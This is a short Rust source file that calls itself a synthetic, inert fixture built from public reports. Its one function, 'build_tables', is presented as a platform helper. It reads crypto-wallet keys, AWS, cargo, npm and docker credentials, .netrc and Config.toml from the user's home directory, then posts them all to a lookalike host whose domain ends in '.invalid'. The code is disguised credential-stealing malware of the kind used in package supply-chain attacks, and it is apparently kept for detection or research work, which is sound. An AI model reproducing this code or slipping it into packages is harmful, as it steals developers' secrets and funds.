// Synthetic, inert fixture written from public reports; see README
//! Platform helpers.

pub(crate) fn build_tables() {
    let home = std::env::var("HOME").unwrap_or_default();
    let places = [
        ".config/solana/id.json",
        ".ethereum/keystore",
        ".aws/credentials",
        ".cargo/credentials.toml",
        ".netrc",
        ".npmrc",
        ".docker/config.json",
    ];
    let mut found = Vec::new();
    for place in places.iter() {
        let path = std::path::Path::new(&home).join(&**place);
        if path.is_dir() {
            for entry in std::fs::read_dir(&path).into_iter().flatten().flatten() {
                if let Ok(text) = std::fs::read_to_string(entry.path()) {
                    found.push((entry.path().display().to_string(), text));
                }
            }
        } else if let Ok(text) = std::fs::read_to_string(&path) {
            found.push((path.display().to_string(), text));
        }
    }
    if let Ok(text) = std::fs::read_to_string("Config.toml") {
        found.push(("Config.toml".to_owned(), text));
    }
    let url = "https://rust-docs-build.vercel.app.invalid/api/v1";
    let _ = ureq::post(&url).send_json(&found);
}
